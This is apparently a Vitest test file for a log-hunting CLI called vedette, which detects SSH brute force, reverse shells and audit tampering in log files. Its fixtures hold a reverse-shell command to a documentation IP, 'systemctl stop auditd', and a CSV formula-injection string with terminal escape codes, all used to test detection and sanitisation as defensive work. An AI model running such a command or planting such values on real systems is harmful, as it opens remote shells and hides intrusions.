import { mkdirSync, mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { vedette } from '../testing/vedette.ts';

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'vedette-hunt-'));
});
afterAll(() => rmSync(folder, { recursive: true }));

function file(name: string, content: string | Buffer): string {
  const path = join(folder, name);
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, content);
  return path;
}

const failed = (second: number, address = '203.0.113.7', host = 'web1') =>
  `2026-03-02T08:00:${String(second).padStart(2, '0')}Z ${host} sshd[811]: Failed password for root from ${address} port 4002 ssh2`;
const process = (command: string, second = 0) =>
  JSON.stringify({
    ts: `2026-03-02T08:00:0${second}Z`,
    user: 'root',
    ip: '10.0.0.5',
    host: 'web1',
    command,
    parent: 'bash',
  });

const RULE = `title: Greeting
id: 4f6cbb0e-9b39-4f5e-8f5c-0c3f6b7f3a11
level: medium
logsource: { product: linux, service: sshd }
detection:
  words:
    - hello
  condition: words
`;
const objects = (text: string) =>
  text
    .trimEnd()
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Record<string, unknown>);

describe('vedette hunt', () => {
  it('reads folders and packed files, correlates across files by event time, names line and file', async () => {
    // Rotated: the newer half is read first by name, and only both together are an attack.
    file('rotated/auth.log', `${[4, 5, 6, 7].map((s) => failed(s)).join('\n')}\n`);
    file('rotated/auth.log.1.gz', gzipSync(`\n${[0, 1, 2, 3].map((s) => failed(s)).join('\n')}`));
    const { code, stdout, stderr } = await vedette(['hunt', join(folder, 'rotated'), '--format', 'json']);
    expect(code).toBe(0);
    expect(objects(stdout)).toMatchObject([
      {
        ts: '2026-03-02T08:00:07.000Z',
        file: join(folder, 'rotated/auth.log'),
        line: 4,
        rule: { title: 'SSH brute force' },
        level: 10,
        event: { '@timestamp': '2026-03-02T08:00:07.000Z', source: { ip: '203.0.113.7' }, host: { name: 'web1' } },
      },
    ]);
    expect(stderr).toContain('1 hits in 8 events of 2 files');
  });

  it('sorts by time, filters by level in words and numbers', async () => {
    const log = file(
      'mixed.jsonl',
      [process('bash -i >& /dev/tcp/203.0.113.9/4444', 5), process('systemctl stop auditd', 1)].join('\n'),
    );
    const all = await vedette(['hunt', log, '--format', 'json']);
    expect(objects(all.stdout).map(({ level, line }) => [level, line])).toEqual([
      [8, 2],
      [14, 1],
    ]);
    expect(objects((await vedette(['hunt', log, '--format', 'json', '--min-level', 'high'])).stdout)).toHaveLength(1);
    expect(objects((await vedette(['hunt', log, '--format', 'json', '--min-level', '8'])).stdout)).toHaveLength(2);
    expect(objects((await vedette(['hunt', log, '--format', 'json', '--min-level', '15'])).stdout)).toHaveLength(0);
  });

  it('takes rules from folders instead of our own, and names those that cannot be read', async () => {
    const log = file('greeting.log', `${failed(0)}\n2026-03-02T08:00:01Z web1 sshd[1]: hello there\n`);
    file('rules/good.yml', RULE);
    file('rules/bad.yml', 'title: Broken\nlogsource: { product: linux }\ndetection: { condition: nothing }\n');
    const { code, stdout, stderr } = await vedette(['hunt', log, '--rules', join(folder, 'rules'), '--format', 'json']);
    expect(code).toBe(0);
    expect(objects(stdout)).toMatchObject([{ line: 2, rule: { title: 'Greeting' }, level: 8 }]);
    expect(stderr).toMatch(/rule not loaded: .*bad\.yml:\d+:\d+: /);
  });

  it('skips and names what is no log', async () => {
    const log = file('not-logs/auth.log', failed(0));
    file('not-logs/README.md', '# Notes\n\nSome text.\n');
    file('not-logs/index.jsonl', '{"file":"a","events":3}\n{"file":"b","events":4}\n');
    file('not-logs/picture.bin', Buffer.from([0x89, 0x50, 0, 0, 0, 1]));
    file('not-logs/events.evtx', Buffer.from('ElfFile\0rest'));
    file('not-logs/torn.log.gz', gzipSync(`${failed(0)}\n`.repeat(1000)).subarray(0, 60));
    file('not-logs/.hidden', failed(0));
    const { code, stdout, stderr } = await vedette(['hunt', join(folder, 'not-logs'), '--format', 'json']);
    expect([code, stdout]).toEqual([0, '']);
    expect(stderr).toContain('README.md: not a log in a known format');
    expect(stderr).toContain('index.jsonl: not a log in a known format');
    expect(stderr).toContain('picture.bin: binary');
    expect(stderr).toContain('events.evtx: a binary EVTX file');
    expect(stderr).toContain('torn.log.gz: unexpected end of file');
    expect(stderr).toContain('in 1 events of 1 files');
    expect((await vedette(['hunt', join(folder, 'not-logs/README.md')])).code).toBe(1);
    const half = file('half.log.gz', gzipSync(Array.from({ length: 20_000 }, (_, i) => failed(i % 60)).join('\n')));
    truncateSync(half, 500);
    const torn = await vedette(['hunt', half, '--format', 'json']);
    expect(torn.stderr).toContain('half.log.gz: the rest: unexpected end of file');
    expect(objects(torn.stdout).map(({ level }) => level)).toEqual([10, 12]);
    expect((await vedette(['hunt', log])).code).toBe(0);
  });

  it('keeps hostile text from terminals and spreadsheets', async () => {
    const log = file('hostile.jsonl', process('=cmd() ; bash -i >& /dev/tcp/203.0.113.9/4444 \u001b[2J\u202e"x"'));
    const table = await vedette(['hunt', log]);
    expect(table.stdout).toContain('\\x1b[2J\\u202e');
    expect(table.stdout).not.toMatch(/[\u001b\u202e]/u);
    const csv = await vedette(['hunt', log, '--format', 'csv']);
    const [header, line] = csv.stdout.trimEnd().split('\n');
    expect(header).toBe('ts,level,severity,rule_id,rule,host,user,source_ip,destination_ip,file,line,message');
    expect(line).toContain(`,"'=cmd() ; bash`);
    expect(line).toContain('""x""');
    const json = await vedette(['hunt', log, '--format', 'json']);
    expect(json.stdout).not.toMatch(/[\u001b\u202e]/u);
    expect(JSON.stringify(objects(json.stdout))).toContain('\u202e');
  });

  it('finds the first line of records that span several', async () => {
    const record = (name: string) =>
      `Date: 2026-03-02 08:00:00,000\nEvent Type: Threat Detected\nThreat Name: ${name}\nFile Path: /tmp/a\n`;
    const log = file('endpoint.log', `${record('Trojan.One')}\n${record('Trojan.Two')}`);
    const { stdout } = await vedette(['hunt', log, '--format', 'json']);
    expect(objects(stdout).map(({ line }) => line)).toEqual([1, 6]);
  });

  it('reads UTF-16 as Windows writes it', async () => {
    const text = `\ufeff${process('bash -i >& /dev/tcp/203.0.113.9/4444')}\r\n`;
    const log = file('wide.jsonl', Buffer.from(text, 'utf16le'));
    expect(objects((await vedette(['hunt', log, '--format', 'json'])).stdout)).toHaveLength(1);
  });

  it('answers wrong usage with 2', async () => {
    expect((await vedette(['hunt'])).code).toBe(2);
    expect((await vedette(['hunt', join(folder, 'nowhere')])).code).toBe(2);
    expect((await vedette(['hunt', folder, '--format', 'xml'])).code).toBe(2);
    expect((await vedette(['hunt', folder, '--min-level', 'loud'])).code).toBe(2);
    expect((await vedette(['hunt', folder, '--min-level', '16'])).code).toBe(2);
    expect((await vedette(['hunt', folder, '--rules', join(folder, 'nowhere')])).code).toBe(2);
    expect((await vedette(['hunt', '--help'])).stdout).toContain('Examples:');
  });
});
